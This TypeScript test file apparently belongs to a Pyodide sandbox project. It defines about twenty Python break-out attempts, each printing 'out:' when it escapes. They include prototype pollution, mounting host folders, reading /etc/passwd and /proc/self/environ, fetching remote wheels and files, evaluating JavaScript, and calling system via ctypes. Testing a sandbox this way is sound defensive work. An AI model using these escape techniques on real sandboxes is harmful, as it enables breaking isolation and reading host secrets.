/**
 * Programs that try to get out. Each begins by finding Pyodide's inside, which any program can, and
 * prints a line that begins with `out:` where it has got hold of something beyond its box.
 */
import type { Trace } from '../src/trace/schema.ts';
import { dedent } from './dedent.ts';

export interface BreakOut {
  readonly name: string;
  readonly source: string;
}

/** Finds what Pyodide is made of, by way of objects that the garbage collector knows. */
export const FIND_PYODIDE = dedent(`
  import asyncio, gc, os, sys, types
  import _loopscope.kernel as kernel
  import _loopscope.promises as promises

  gc.unfreeze()
  modules = {o.__name__: o for o in gc.get_objects() if isinstance(o, types.ModuleType)}
  core = modules["_pyodide_core"]
  pyodide = modules["_pyodide._importhook"].jsfinder.jsproxies["pyodide_js"]
  api, module, FS = pyodide._api, pyodide._module, pyodide.FS
  bridge = kernel._bridge
  Object = api.constructor
  Function = Object.getPrototypeOf(Object)
  leaks = []

  def js(**entries):
      made = Object.new()
      for name, value in entries.items():
          setattr(made, name, value)
      return made

  def proxy(function, this=False):
      return core.create_proxy(function, capture_this=this)

  def web_loop():
      """A loop of Pyodide's, which alone knows of promises."""
      return next(kind() for kind in asyncio.AbstractEventLoop.__subclasses__() if kind.__name__ == "WebLoop")

  def wait_for(begin):
      asyncio._set_running_loop(web_loop())
      try:
          return promises.run_sync(begin())
      finally:
          asyncio._set_running_loop(None)

  def look(folder):
      if any(name in os.listdir(folder) for name in ("etc", "usr", "proc")):
          print("out: read", folder, os.listdir(folder)[:3])

  def plant(holder, name, function):
      Object.defineProperty(holder, name, js(get=proxy(function, True), configurable=True))
`);

/** What it has got hold of, and where it has stumbled before it could try. */
export function signsOfBreakingOut({ events }: Trace): readonly string[] {
  const texts = events.map((event) => (event.kind === 'output' ? event.text : ''));
  return texts.join('').match(/^out:.*|^(Attribute|Name|Syntax|Import)Error:.*/gm) ?? [];
}

const TRICKS: Readonly<Record<string, string>> = {
  'a getter planted in what all objects inherit': `
    plant(Object.prototype, "debug_ffi", lambda this: leaks.append(this))
    broken = proxy(print)
    broken.destroy()
    try:
        broken()
    except Exception as error:
        print("held:", error)
    del Object.prototype.debug_ffi
    if leaks:
        print("out: was handed", Object.keys(leaks[0]))
  `,
  'methods of the language replaced': `
    def spy(holder, name):
        original = getattr(holder, name)
        def called(this, *arguments):
            leaks.append((name, this))
            return original.call(this, *arguments)
        setattr(holder, name, proxy(called, True))
    Promise = bridge.never.constructor
    Array = Object.keys(Object).constructor
    for holder, name in (
        (Array, "isArray"), (Array.prototype, "push"), (Function, "call"),
        (Promise, "resolve"), (Object, "keys"), (Object.prototype, "toString"),
    ):
        try:
            spy(holder, name)
        except Exception as error:
            print("held:", error)
        else:
            print("out: replaced a method", flush=True)
  `,
  'the host’s folders mounted by Pyodide': `
    api.runtimeEnv.IN_NODE = True
    pyodide.mountNodeFS("/host", "/")
    look("/host")
  `,
  'the host’s folders mounted by Emscripten': `
    FS.mkdir("/host")
    FS.mount(FS.filesystems.NODEFS, js(root="/"), "/host")
    look("/host")
  `,
  'a file of the host read as a package': `
    for path in ("/etc/passwd", "file:///etc/passwd", "/proc/self/environ"):
        try:
            data = bytes(wait_for(lambda: api.loadBinaryFile(path)).to_py())
        except Exception as error:
            print("held:", error)
        else:
            print("out: read", data[:20])
  `,
  'a wheel from the network': `
    for name in ("installBaseUrl", "cdnURL"):
        setattr(api.packageManager, name, "https://example.org/")
    said = []
    tell = proxy(said.append)
    wait_for(lambda: pyodide.loadPackage(
        "https://example.org/a-1.0-py3-none-any.whl", js(errorCallback=tell, messageCallback=tell)
    ))
    if not any("not defined" in text or "Shell cannot fetch" in text for text in said):
        print("out: asked the network", said)
  `,
  'real sockets by way of Node': `
    wait_for(api.initializeNodeSockFS)
    print("out: has node:net", FS.filesystems.NODESOCKFS)
  `,
  'sockets over WebSocket': `
    sock = module.SOCKFS.createSocket(2, 1, 6)
    sock.sock_ops.createPeer(sock, "127.0.0.1", 80)
    print("out: opened a WebSocket")
  `,
  'text evaluated as JavaScript': `
    def kinds():
        yield Object.constructor
        yield Function.constructor
        for function in (api.loadBinaryFile, module.iterObject, bridge.park):
            yield function.constructor
    for make in kinds():
        for text in ("return globalThis", "return import('node:fs')", "yield 1"):
            for call in (make, make.new):
                try:
                    print("out: evaluated", call(text))
                except Exception as error:
                    print("held:", error)
  `,
  'text evaluated by Emscripten': `
    text = module.stringToNewUTF8("40 + 2")
    for evaluate in (
        lambda: module._emscripten_run_script_int(text),
        lambda: module._emscripten_run_script_string(text),
        lambda: modules["pyodide.code"].run_js("40 + 2"),
    ):
        try:
            print("out: evaluated", evaluate())
        except Exception as error:
            print("held:", error)
  `,
  'a library of WebAssembly with JavaScript in it': `
    def put(path):
        open(path, "wb").write(b"\\0asm\\1\\0\\0\\0\\0\\x0f\\x08dylink.0\\1\\4\\0\\0\\0\\0")
        return path

    sync = js(loadAsync=False)
    for load in (
        lambda: wait_for(lambda: api.loadDynlib(put("/tmp/a.so"))) or "a.so",
        lambda: module.loadDynamicLibrary(put("/tmp/b.so"), sync, Object.new(), None),
        lambda: module.loadWebAssemblyModule(FS.readFile(put("/tmp/c.so")), sync, "c", Object.new(), None),
    ):
        try:
            print("out: loaded", load())
        except Exception as error:
            print("held:", error)
  `,
  'WebAssembly of its own': `
    for name in ("wasmTable", "wasmMemory", "wasmModule", "wasmExports"):
        found = getattr(module, name, Object)
        if found.constructor.name in ("Module", "Instance", "Memory", "Table"):
            print("out: may make", found.constructor.name)
    for make in (
        lambda: module.convertJsFunctionToWasm(Object.is_, "i"),
        lambda: module.addFunction(Object.is_, "i"),
    ):
        try:
            print("out: made", make())
        except Exception as error:
            print("held:", error)
  `,
  'files fetched by Emscripten': `
    def load(name):
        FS.createPreloadedFile("/", name, "https://example.org/", True, True)
        return os.path.exists(name)

    def load_when_needed(name):
        FS.createLazyFile("/", name, "https://example.org/", True, True)
        return open(name, "rb").read()

    for fetch in (load, load_when_needed):
        try:
            print("out: fetched" if fetch("/" + fetch.__name__) else "held: nothing came")
        except Exception as error:
            print("held:", error)
  `,
  'storage of the browser': `
    for name in ("IDBFS", "WORKERFS", "NATIVEFS_ASYNC", "OPFS"):
        kind = getattr(FS.filesystems, name, None)
        if kind is None:
            continue
        FS.mkdir("/" + name)
        try:
            FS.mount(kind, Object.new(), "/" + name)
            print("out: opened", kind.indexedDB())
        except Exception as error:
            print("held:", error)
  `,
  'the host’s standard input and output': `
    for give in (pyodide.setStdin, pyodide.setStdout, pyodide.setStderr):
        try:
            api.runtimeEnv.IN_NODE = True
            give(Object.new())
            print("held: nothing but", give.name)
        except Exception as error:
            print("held:", error)
    try:
        fd = os.open("/dev/stdin", os.O_RDONLY)
        print("out: read from the host", os.read(fd, 10)) if os.read(fd, 1) else None
    except OSError as error:
        print("held:", error)
  `,
  'the environment of the host': `
    for found in (os.environ, module.ENV.to_py()):
        for name in ("HOSTNAME", "NODE", "OLDPWD", "npm_execpath", "npm_config_cache", "VITEST"):
            if name in found:
                print("out:", name, found[name])
    told = [os.getuid(), os.uname(), getattr(sys, "_emscripten_info", None)]
    if os.getuid() != 1000 or "Mozilla" in str(told):
        print("out:", told)
  `,
  'the clock, time zone and language of the host': `
    import time
    made = FS.stat("/").mtime.constructor.new()
    if abs(made.getTime() / 1000 - time.time()) > 60:
        print("out: real time", made.getTime())
    for name in ("getTimezoneOffset", "getHours", "toLocaleTimeString", "toTimeString"):
        if hasattr(made, name):
            print("out:", getattr(made, name)())
  `,
  'where the site’s files are on the machine': `
    texts = [str(api.config.indexURL), str(module.locateFile), str(module.thisProgram)]
    for break_it in (lambda: bridge.turn.apply(1, 1), lambda: module.abort("x"), lambda: FS.open("/none", 0)):
        try:
            break_it()
        except Exception as error:
            texts.append(str(getattr(error, "stack", "")))
    for text in texts:
        if "file:" in text or "/src/" in text or "node_modules" in text or "_astro" in text:
            print("out:", text)
  `,
  'calls on the stack handed over': `
    try:
        bridge.turn.apply(1, 1)
    except Exception as error:
        Error = Object.getPrototypeOf(error.constructor)
        Error.prepareStackTrace = proxy(lambda error, calls: leaks.extend(calls))
        traced = Object.new()
        Error.captureStackTrace(traced)
        print(traced.stack)
    if leaks:
        print("out: sees", leaks)
  `,
  'raw memory by ctypes': `
    import importlib.machinery
    for name in ("_ctypes", "_ctypes_test"):
        spec = importlib.machinery.BuiltinImporter.find_spec(name)
        if spec is None:
            continue
        ctypes = importlib.machinery.BuiltinImporter.load_module(name)
        handle = ctypes.dlopen(None, 0)
        for function in ("emscripten_run_script", "system", "emscripten_websocket_new", "dlopen"):
            try:
                address = ctypes.dlsym(handle, function)
                text = module.stringToNewUTF8("globalThis.evaluated = 1")
                print("held: called", function, module.wasmTable.get(address)(text))
            except Exception as error:
                print("held:", error)
  `,
  'the scope itself': `
    for name in ("globalThis", "self", "global", "globals", "process", "require", "fs"):
        for holder in (pyodide, api, module, FS, bridge):
            found = getattr(holder, name, None)
            if found is not None and hasattr(found, "WebAssembly"):
                print("out: found the scope as", name)
    for fetch in (Function.call, Function.apply, Function.bind):
        try:
            got = fetch.call(Object.prototype.valueOf, None)
            if hasattr(got, "Array"):
                print("out: found the scope by", fetch.name)
        except Exception as error:
            print("held:", error)
  `,
};

export const BREAK_OUTS: readonly BreakOut[] = Object.entries(TRICKS).map(([name, trick]) => ({
  name,
  source: FIND_PYODIDE + dedent(trick),
}));
